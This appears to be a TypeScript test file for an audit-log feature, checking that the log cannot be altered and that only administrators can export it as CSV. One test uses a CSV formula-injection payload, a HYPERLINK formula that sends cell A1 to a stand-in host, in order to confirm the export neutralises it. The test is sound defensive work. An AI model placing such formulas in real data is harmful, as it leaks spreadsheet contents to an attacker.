import { test } from 'node:test';
import assert from 'node:assert/strict';
import { sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { buildTestHub, signedIn, withPartnership } from '../../../test/helpers.ts';
import { auditLog } from './audit.tables.ts';
import { recordAudit } from './audit.service.ts';

test('the audit log refuses updates, deletes and truncation at the database', async (t) => {
  const hub = await buildTestHub(t);
  await recordAudit(hub.database.db, { action: 'setup.completed', actor: 'someone@example.org' });
  await assert.rejects(hub.database.db.update(auditLog).set({ action: 'sign_out' }));
  await assert.rejects(hub.database.db.delete(auditLog));
  await assert.rejects(hub.database.db.execute(sql`truncate audit_log`));
  const rows = await hub.database.db.select().from(auditLog);
  assert.equal(rows.length, 1);
  assert.equal(rows[0]!.action, 'setup.completed');
});

test('administrators read, filter and export the audit log; others cannot', async (t) => {
  const hub = await buildTestHub(t);
  await withPartnership(hub);
  const { browser: admin } = await signedIn(hub, 'administrator');
  const db = hub.database.db;
  await recordAudit(db, {
    action: 'document.viewed',
    actor: 'nobody@example.org',
    subjectType: 'document',
    subjectId: 1,
  });
  await recordAudit(db, { action: 'document.downloaded', actor: 'somebody@example.org', subjectType: 'document' });

  const page = await admin.get('/audit-log');
  assert.equal(page.statusCode, 200);
  assert.equal(page.headers['cache-control'], 'no-store');
  assert.match(page.body, /document.viewed/);
  assert.match(page.body, /document.downloaded/);
  // Sign-in attempts have their own table, kept for their retention period, not this log.
  assert.doesNotMatch(page.body, /sign_in\./);

  const filtered = await admin.get('/audit-log?action=document.viewed');
  assert.match(filtered.body, /nobody@example.org/);
  assert.doesNotMatch(filtered.body, /document.downloaded/);
  assert.equal((await admin.get('/audit-log?from=not-a-date')).statusCode, 400);

  const csv = await admin.get('/audit-log.csv?action=document');
  assert.equal(csv.statusCode, 200);
  assert.match(String(csv.headers['content-type']), /text\/csv/);
  const records = parse<Record<string, string>>(csv.body, { columns: true });
  assert.ok(records.length >= 2);
  assert.ok(records.every((r) => r.action!.startsWith('document')));
  assert.ok(records.some((r) => r.actor === 'nobody@example.org'));

  const exported = await admin.get('/audit-log?action=audit_log');
  assert.match(exported.body, /audit_log.exported/, 'exports are themselves logged');

  for (const role of ['coordinator', 'member', 'viewer'] as const) {
    const { browser } = await signedIn(hub, role);
    assert.equal((await browser.get('/audit-log')).statusCode, 403);
    assert.equal((await browser.get('/audit-log.csv')).statusCode, 403);
  }
});

test('an entry with a formula for its actor reaches the audit CSV as text, not a formula', async (t) => {
  const hub = await buildTestHub(t);
  await withPartnership(hub);
  const { browser: admin } = await signedIn(hub, 'administrator');
  const email = '=HYPERLINK("http://evil.example/?x="&A1,"Click to continue")';
  await recordAudit(hub.database.db, { action: 'account.password_link_refused', actor: email });

  const csv = await admin.get('/audit-log.csv');
  assert.equal(csv.statusCode, 200);
  const records = parse<Record<string, string>>(csv.body, { columns: true });
  const failed = records.find((r) => r.action === 'account.password_link_refused');
  assert.ok(failed, 'the entry is in the export');
  assert.equal(failed.actor, `'${email}`, 'the cell starts with an apostrophe, so a spreadsheet shows it as text');
  for (const record of records) {
    for (const [column, cell] of Object.entries(record))
      assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${column} of ${record.action}`);
  }
});
